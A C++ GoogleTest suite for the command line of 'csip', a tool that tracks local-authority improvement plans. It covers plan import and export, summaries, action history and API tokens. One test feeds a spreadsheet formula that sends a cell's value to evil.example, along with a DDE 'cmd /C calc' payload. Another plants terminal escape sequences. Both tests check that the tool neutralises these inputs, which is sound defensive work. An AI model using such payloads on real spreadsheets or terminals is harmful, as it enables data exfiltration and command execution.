// The csip command line end to end, on each storage backend: a plan written by someone else
// imports, exports unchanged, and gives the right coverage and summary; every bad input is
// refused with its place named and nothing changed; actions are updated and their history read.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <functional>
#include <nlohmann/json.hpp>
#include <random>

#include "../support/temp_dir.hpp"
#include "csip_process.hpp"

namespace csip::testing {
namespace {

using Json = nlohmann::json;

std::string fixture(const std::string& name) {
    return read_file(source_dir() / "tests/cli/fixtures" / name);
}

std::string replace_once(std::string text, const std::string& from, const std::string& to) {
    const auto at = text.find(from);
    if (at == std::string::npos) throw std::runtime_error("fixture has no '" + from + "'");
    return text.replace(at, from.size(), to);
}

// The database a test uses: a SQLite file in the test's folder, or a fresh PostgreSQL
// database on the test server (scripts/test starts one and sets CSIP_TEST_POSTGRES_URL).
class Backend {
public:
    virtual ~Backend() = default;
    virtual std::string db() const = 0;
    // Runs SQL on the database directly, as an earlier release or another tool might have
    // written to it; `{esc}` in `sql` is the SQL for the character ESC.
    virtual void execute(std::string sql) const = 0;

protected:
    static void run(const std::string& command) {
        if (std::system(command.c_str()) != 0) throw std::runtime_error("failed: " + command);
    }
    static std::string with(std::string sql, const std::string& esc) {
        for (auto at = sql.find("{esc}"); at != std::string::npos; at = sql.find("{esc}")) {
            sql.replace(at, 5, esc);
        }
        return sql;
    }
};

class SqliteBackend final : public Backend {
public:
    explicit SqliteBackend(const TempDir& dir) : m_path((dir / "csip.db").string()) {}
    std::string db() const override { return m_path; }
    void execute(std::string sql) const override {
        run("sqlite3 '" + m_path + "' \"" + with(std::move(sql), "char(27)") + "\"");
    }

private:
    std::string m_path;
};

class PostgresBackend final : public Backend {
public:
    explicit PostgresBackend(std::string server) : m_server(std::move(server)) {
        std::random_device random;
        m_name = "csip_cli_" + std::to_string(random());
        psql("CREATE DATABASE " + m_name);
        const auto query = m_server.find('?');
        m_url = "postgresql:///" + m_name + (query == std::string::npos ? "" : m_server.substr(query));
    }
    ~PostgresBackend() override { psql("DROP DATABASE IF EXISTS " + m_name + " WITH (FORCE)"); }
    std::string db() const override { return m_url; }
    void execute(std::string sql) const override {
        run("psql -q -v ON_ERROR_STOP=1 '" + m_url + "' -c \"" + with(std::move(sql), "chr(27)") +
            "\" >/dev/null");
    }

private:
    void psql(const std::string& sql) const {
        const std::string command = "psql -q -v ON_ERROR_STOP=1 '" + m_server + "' -c '" + sql + "' >/dev/null";
        if (std::system(command.c_str()) != 0) throw std::runtime_error("psql failed: " + sql);
    }
    std::string m_server, m_name, m_url;
};

class CommandLine : public ::testing::TestWithParam<std::string> {
protected:
    void SetUp() override {
        if (GetParam() == "sqlite") {
            m_backend = std::make_unique<SqliteBackend>(m_dir);
            return;
        }
        const char* server = std::getenv("CSIP_TEST_POSTGRES_URL");
        if (server == nullptr) {
            const char* required = std::getenv("CSIP_REQUIRE_POSTGRES");
            if (required != nullptr && std::string(required) == "1") {
                FAIL() << "CSIP_TEST_POSTGRES_URL is not set; scripts/test starts the server";
            }
            GTEST_SKIP() << "no PostgreSQL test server (run scripts/test)";
        }
        m_backend = std::make_unique<PostgresBackend>(server);
    }

    ProcessResult csip(std::vector<std::string> args, const std::string& input = {}) {
        args.insert(args.begin(), {"--db", m_backend->db()});
        return run_csip(args, m_dir.path().string(), {}, input);
    }

    // Writes `content` to a file in the test's folder and returns its path.
    std::string file(const std::string& name, const std::string& content) {
        write_file(m_dir / name, content);
        return (m_dir / name).string();
    }

    void import_northfield() {
        const auto result = csip({"plan", "import", file("plan.json", fixture("northfield_plan.json")),
                                  "--by", "performance officer"});
        ASSERT_EQ(result.exit_code, 0) << result.err;
    }

    TempDir m_dir;
    std::unique_ptr<Backend> m_backend;
};

// A plan written by another tool comes back out as it went in, with what csip adds to every
// item (its version, a measure's status) besides; exported, imported and exported again, it is
// the same bytes.
TEST_P(CommandLine, APlanWrittenElsewhereExportsUnchanged) {
    import_northfield();
    const auto exported = csip({"plan", "export"});
    ASSERT_EQ(exported.exit_code, 0) << exported.err;
    auto written = nlohmann::json::parse(exported.out);
    const std::function<void(nlohmann::json&)> strip = [&](nlohmann::json& value) {
        if (value.is_object()) {
            value.erase("version");
            if (value.contains("kind")) value.erase("status");  // a success measure's status
            for (auto& [key, member] : value.items()) strip(member);
        } else if (value.is_array()) {
            for (auto& member : value) strip(member);
        }
    };
    strip(written);
    EXPECT_EQ(written, nlohmann::json::parse(fixture("northfield_plan.json")));

    ASSERT_EQ(csip({"plan", "import", file("exported.json", exported.out), "--by", "tester"})
                  .exit_code,
              0);
    EXPECT_EQ(csip({"plan", "export"}).out, exported.out);
}

TEST_P(CommandLine, SummaryCountsActionsAsOfADate) {
    import_northfield();
    const auto result = csip({"summary", "--as-of", "2017-01-15", "--format", "json"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    const auto summary = Json::parse(result.out);
    EXPECT_EQ(summary["as_of"], "2017-01-15");
    EXPECT_EQ(summary["actions"], Json::parse(R"({"total": 7, "not_started": 1, "red": 2,
        "amber": 1, "green": 1, "complete": 2, "overdue": 2, "rescheduled": 2})"));
    ASSERT_EQ(summary["workstreams"].size(), 2U);
    EXPECT_EQ(summary["workstreams"][0], Json::parse(R"({"id": "WS-A", "title": "Help and protection",
        "total": 5, "not_started": 1, "red": 1, "amber": 1, "green": 1, "complete": 1,
        "overdue": 2, "rescheduled": 1})"));
    EXPECT_EQ(summary["workstreams"][1]["total"], 2);
    EXPECT_EQ(summary["workstreams"][1]["overdue"], 0);

    // NB2 falls due on 31 January: overdue from 1 February, not on the day itself.
    EXPECT_EQ(Json::parse(csip({"summary", "--as-of", "2017-01-31", "--format", "json"}).out)
                  ["actions"]["overdue"], 2);
    EXPECT_EQ(Json::parse(csip({"summary", "--as-of", "2017-02-01", "--format", "json"}).out)
                  ["actions"]["overdue"], 3);
}

TEST_P(CommandLine, CoverageShowsEachRecommendationsCommitmentsAndActions) {
    import_northfield();
    const auto result = csip({"coverage", "--format", "json", "--as-of", "2017-01-15"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    const auto rows = Json::parse(result.out)["recommendations"];
    ASSERT_EQ(rows.size(), 5U);
    EXPECT_EQ(rows[0]["id"], "P1");
    EXPECT_EQ(rows[0]["category"], "priority");
    EXPECT_EQ(rows[0]["commitments"], Json::parse(R"(["CA1"])"));
    EXPECT_EQ(rows[0]["actions"], 2);
    EXPECT_EQ(rows[0]["covered"], true);
    EXPECT_EQ(rows[2]["id"], "I1");
    EXPECT_EQ(rows[2]["actions"], 3);
    EXPECT_EQ(rows[4]["id"], "I3");
    EXPECT_EQ(rows[4]["commitments"], Json::parse(R"(["CB2"])"));
    EXPECT_EQ(rows[4]["actions"], 0);
    EXPECT_EQ(rows[4]["covered"], false);

    const auto text = csip({"coverage", "--as-of", "2017-01-15"});
    EXPECT_NE(text.out.find("4 of 5 recommendations covered"), std::string::npos) << text.out;
}

struct BadPlan {
    std::string name;
    std::string from;  // text in the valid plan ...
    std::string to;    // ... replaced by this
    std::string expected;  // a fragment the refusal must contain
};

TEST_P(CommandLine, EveryBadPlanIsRefusedWithItsPlaceAndNothingChanges) {
    const std::vector<BadPlan> cases = {
        {"malformed JSON", R"("title": "Children's)", R"("title" "Children's)", "plan.json:4:"},
        {"wrong type", R"("limiting": false)", R"("limiting": "no")", "plan.json:25:"},
        {"impossible date", R"("due": "2016-12-01")", R"("due": "2023-02-30")", "2023-02-30"},
        {"duplicate id", R"("id": "NA2")", R"("id": "NA1")", "duplicate action id 'NA1'"},
        {"unknown recommendation", R"("I1"
          ],)", R"("I9"
          ],)", "unknown recommendation 'I9'"},
        {"RAG on a not-started action", R"("status": "not_started",
              "rag": null)", R"("status": "not_started",
              "rag": "amber")", "not-started action has no RAG"},
        {"RAG on a complete action", R"("status": "complete",
              "rag": null,
              "updates": [
                {
                  "on": "2016-10-03")", R"("status": "complete",
              "rag": "green",
              "updates": [
                {
                  "on": "2016-10-03")", "complete action has no RAG"},
        {"unknown grade", R"("grade": "requires_improvement")", R"("grade": "needs_work")", "needs_work"},
        {"unknown status", R"("status": "not_started")", R"("status": "started")", "'started'"},
        {"overall better than limiting", R"("overall": "inadequate")",
         R"("overall": "requires_improvement")", "limiting judgement"},
    };
    import_northfield();
    const auto plan_before = csip({"plan", "export"}).out;
    const auto audit_before = csip({"audit", "--format", "json"}).out;
    const auto valid = fixture("northfield_plan.json");
    for (const auto& bad : cases) {
        SCOPED_TRACE(bad.name);
        const auto path = file("plan.json", replace_once(valid, bad.from, bad.to));
        const auto result = csip({"plan", "import", path});
        EXPECT_EQ(result.exit_code, 1);
        EXPECT_NE(result.err.find(bad.expected), std::string::npos) << result.err;
        EXPECT_NE(result.err.find("Nothing was changed"), std::string::npos) << result.err;
        EXPECT_EQ(csip({"plan", "export"}).out, plan_before);
        EXPECT_EQ(csip({"audit", "--format", "json"}).out, audit_before);
    }
}

TEST_P(CommandLine, ALeadUpdatesAnActionAndReadsItsHistory) {
    import_northfield();
    auto result = csip({"action", "update", "NA4", "--status", "in_progress", "--rag", "amber",
                        "--note", "Interviews booked for February.", "--by", "Head of Safeguarding",
                        "--on", "2017-01-10"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_NE(result.out.find("in progress, Amber"), std::string::npos) << result.out;

    result = csip({"action", "update", "NA4", "--due", "2017-04-30", "--reason",
                   "Only one applicant at the first round", "--note", "Re-advertised.", "--by",
                   "Head of Safeguarding", "--on", "2017-01-20"});
    ASSERT_EQ(result.exit_code, 0) << result.err;

    const auto history = Json::parse(csip({"history", "NA4", "--format", "json"}).out);
    EXPECT_EQ(history["due"], "2017-04-30");
    EXPECT_EQ(history["original_due"], "2017-02-28");
    const auto& entries = history["entries"];
    ASSERT_GE(entries.size(), 5U);
    // Oldest first (by the date each refers to), a day's update before that day's changes.
    for (std::size_t i = 1; i < entries.size(); ++i) {
        EXPECT_LE(entries[i - 1]["on"].get<std::string>().substr(0, 10),
                  entries[i]["on"].get<std::string>().substr(0, 10));
    }
    std::vector<std::string> updates;
    bool due_change_has_reason = false;
    for (const auto& entry : entries) {
        if (entry["kind"] == "update") updates.push_back(entry["text"]);
        if (entry["kind"] == "change" && entry["field"] == "due") {
            due_change_has_reason = entry["reason"] == "Only one applicant at the first round" &&
                                    entry["old"] == "2017-02-28" && entry["new"] == "2017-04-30";
        }
    }
    EXPECT_EQ(updates, (std::vector<std::string>{"Interviews booked for February.", "Re-advertised."}));
    EXPECT_TRUE(due_change_has_reason) << history.dump(2);

    const auto summary = Json::parse(csip({"summary", "--as-of", "2017-01-15", "--format", "json"}).out);
    EXPECT_EQ(summary["actions"]["not_started"], 0);
    EXPECT_EQ(summary["actions"]["amber"], 2);
    EXPECT_EQ(summary["actions"]["rescheduled"], 3);
}

// A status note a spreadsheet would run as a formula leaves `plan export --format csv` as text,
// and importing that CSV again keeps the note exactly as it was given.
TEST_P(CommandLine, AFormulaInANoteIsExportedAsTextAndImportedBackUnchanged) {
    import_northfield();
    const std::string note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    auto result = csip({"action", "update", "NA4", "--status", "in_progress", "--rag", "amber",
                        "--note", note, "--by", "+cmd|' /C calc'!A0", "--on", "2017-01-10"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    const auto json_before = csip({"plan", "export"}).out;

    const auto csv = csip({"plan", "export", "--format", "csv"});
    ASSERT_EQ(csv.exit_code, 0) << csv.err;
    EXPECT_NE(
        csv.out.find(",\"'+cmd|' /C calc'!A0\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
                     "\"\"Click\"\")\",,,\r\n"),
        std::string::npos)
        << csv.out;
    EXPECT_EQ(csv.out.find(",=HYPERLINK"), std::string::npos);

    result = csip({"plan", "import", file("plan.csv", csv.out), "--by", "performance officer"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_EQ(csip({"plan", "export"}).out, json_before);
}

// The format comes from the file name's own extension, in any case, and a folder's dot is not one.
TEST_P(CommandLine, PlanImportTakesTheFormatFromTheFileNamesOwnExtension) {
    import_northfield();
    const auto csv = csip({"plan", "export", "--format", "csv"});
    ASSERT_EQ(csv.exit_code, 0) << csv.err;
    auto result =
        csip({"plan", "import", file("PLAN.CSV", csv.out), "--by", "performance officer"});
    EXPECT_EQ(result.exit_code, 0) << result.err;
    std::filesystem::create_directory(m_dir / "plans.csv");
    result = csip({"plan", "import", file("plans.csv/plan.json", fixture("northfield_plan.json")),
                   "--by", "performance officer"});
    EXPECT_EQ(result.exit_code, 0) << result.err;
}

TEST_P(CommandLine, AnUpdateThatBreaksTheActionRulesChangesNothing) {
    import_northfield();
    const auto before = csip({"history", "NA4", "--format", "json"}).out;
    auto result = csip({"action", "update", "NA4", "--rag", "red", "--note", "x", "--by", "lead"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("not-started action has no RAG"), std::string::npos) << result.err;
    result = csip({"action", "update", "NA4", "--due", "2017-05-01", "--note", "x", "--by", "lead"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("reason"), std::string::npos) << result.err;
    result = csip({"action", "update", "NA4", "--due", "2017-02-30", "--reason", "r", "--note", "x",
                   "--by", "lead"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("2017-02-30"), std::string::npos) << result.err;
    result = csip({"action", "update", "NOPE", "--note", "x", "--by", "lead"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("NOPE"), std::string::npos) << result.err;
    EXPECT_EQ(csip({"history", "NA4", "--format", "json"}).out, before);
}

// Nothing csip prints can drive the terminal: text an earlier release stored with an escape
// sequence, and an argument holding one, are shown as visible escapes; text given now that is not
// text is refused naming the field.
TEST_P(CommandLine, ControlCharactersNeverReachTheTerminal) {
    import_northfield();
    auto result = csip({"action", "update", "NA4", "--status", "in_progress", "--rag", "amber",
                        "--note", "Interviews booked.", "--by", "lead", "--on", "2017-01-10"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    m_backend->execute(
        "UPDATE status_updates SET text = 'Red ' || {esc} || '[31m alert' || {esc} || ']0;owned' "
        "WHERE action_id = 'NA4'");
    result = csip({"history", "NA4"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_EQ(result.out.find('\x1b'), std::string::npos);
    EXPECT_NE(result.out.find("Red \\x1b[31m alert\\x1b]0;owned"), std::string::npos) << result.out;
    const auto json = csip({"history", "NA4", "--format", "json"});
    EXPECT_EQ(json.out.find('\x1b'), std::string::npos);
    // JSON keeps the text whole, the ESC written as \u001b.
    std::vector<std::string> updates;
    const auto document = Json::parse(json.out);
    for (const auto& entry : document["entries"]) {
        if (entry["kind"] == "update") updates.push_back(entry["text"]);
    }
    EXPECT_EQ(updates, std::vector<std::string>{"Red \x1b[31m alert\x1b]0;owned"}) << json.out;

    result = csip({"action", "update", "NA4\x1b]0;owned\x07", "--note", "x", "--by", "lead"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_EQ(result.err.find('\x1b'), std::string::npos);
    EXPECT_EQ(result.err.find('\x07'), std::string::npos);
    EXPECT_NE(result.err.find("NA4\\x1b]0;owned\\x07"), std::string::npos) << result.err;

    result = csip({"body", "add", "cabinet", "--name", "Cabinet\x1b[8m", "--cadence", "monthly",
                   "--by", "officer"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("the body's name holds a control character at byte 8"),
              std::string::npos)
        << result.err;
    EXPECT_EQ(csip({"body", "list"}).out.find("cabinet"), std::string::npos);
}

TEST_P(CommandLine, ApiTokensAreMadeListedAndRevokedWithTheirIds) {
    auto result = csip({"user", "add", "robot", "--role", "viewer", "--password-stdin", "--by",
                        "admin"},
                       "a long enough password\n");
    ASSERT_EQ(result.exit_code, 0) << result.err;
    result = csip({"token", "create", "robot", "--days", "400", "--by", "admin"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("from 1 to 365 days"), std::string::npos) << result.err;

    result = csip({"token", "create", "robot", "--label", "Nightly export", "--days", "30", "--by",
                   "admin"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    const std::string secret = result.out.substr(0, result.out.find('\n'));
    ASSERT_EQ(secret.rfind("csip_", 0), 0u) << result.out;
    const auto id_at = result.err.find("API token ") + 10;
    const std::string id = result.err.substr(id_at, 12);
    EXPECT_NE(result.err.find("for robot, until "), std::string::npos) << result.err;

    result = csip({"token", "list"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_NE(result.out.find(id), std::string::npos) << result.out;
    EXPECT_NE(result.out.find("Nightly export"), std::string::npos) << result.out;
    EXPECT_EQ(result.out.find(secret), std::string::npos);

    result = csip({"token", "revoke", id, "--by", "admin"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_EQ(result.out, "Revoked API token " + id + " of robot: it is refused from now on.\n");
    result = csip({"token", "list", "robot"});
    EXPECT_EQ(result.out, "There are no API tokens for robot: csip token create NAME makes one.\n");
    result = csip({"token", "revoke", id, "--by", "admin"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("there is no API token " + id), std::string::npos) << result.err;
}

TEST_P(CommandLine, ANewDueDateBeforeTheUpdatesDateIsSavedOnlyWithConfirmPast) {
    import_northfield();
    const std::vector<std::string> update{"action", "update", "NA4", "--due", "2017-01-05",
                                          "--reason", "It fell due earlier", "--note", "Moved back",
                                          "--by", "Head of Safeguarding", "--on", "2017-01-10"};
    auto result = csip(update);
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("would show as overdue at once"), std::string::npos) << result.err;
    auto confirmed = update;
    confirmed.emplace_back("--confirm-past");
    result = csip(confirmed);
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_NE(result.out.find("due 2017-01-05 (originally 2017-02-28)"), std::string::npos)
        << result.out;
}

TEST_P(CommandLine, TheDemoAuthorityIsCreatedOnceAndShown) {
    auto result = csip({"demo"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_NE(result.out.find("Created the demo authority"), std::string::npos);
    EXPECT_NE(result.out.find("Improving the Quality of our Practice"), std::string::npos);
    const auto summary = Json::parse(csip({"summary", "--as-of", "2015-09-15", "--format", "json"}).out);
    EXPECT_EQ(summary["workstreams"].size(), 5U);
    EXPECT_GE(summary["actions"]["total"], 40);
    const auto coverage = Json::parse(csip({"coverage", "--format", "json"}).out);
    EXPECT_EQ(coverage["recommendations"].size(), 17U);

    result = csip({"demo"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_NE(result.out.find("The demo authority is in"), std::string::npos);
}

TEST_P(CommandLine, CommandsWithoutAPlanSayHowToStart) {
    const auto result = csip({"summary"});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_NE(result.err.find("csip plan import"), std::string::npos) << result.err;
}

INSTANTIATE_TEST_SUITE_P(Backends, CommandLine, ::testing::Values("sqlite", "postgresql"),
                         [](const auto& backend) { return backend.param; });

TEST(CommandLineUsage, AnUnknownCommandIsAUsageError) {
    TempDir dir;
    const auto result = run_csip({"frobnicate"}, dir.path().string());
    EXPECT_EQ(result.exit_code, 2);
    EXPECT_NE(result.err.find("csip --help"), std::string::npos) << result.err;
}

TEST(CommandLineUsage, TheDatabaseComesFromTheEnvironmentWhenNotGiven) {
    TempDir dir;
    const auto db = (dir / "from-env.db").string();
    auto result = run_csip({"demo"}, dir.path().string(), {{"CSIP_DB", db}});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    EXPECT_TRUE(std::filesystem::exists(db));
    EXPECT_FALSE(std::filesystem::exists(dir / "csip.db"));
}

}  // namespace
}  // namespace csip::testing
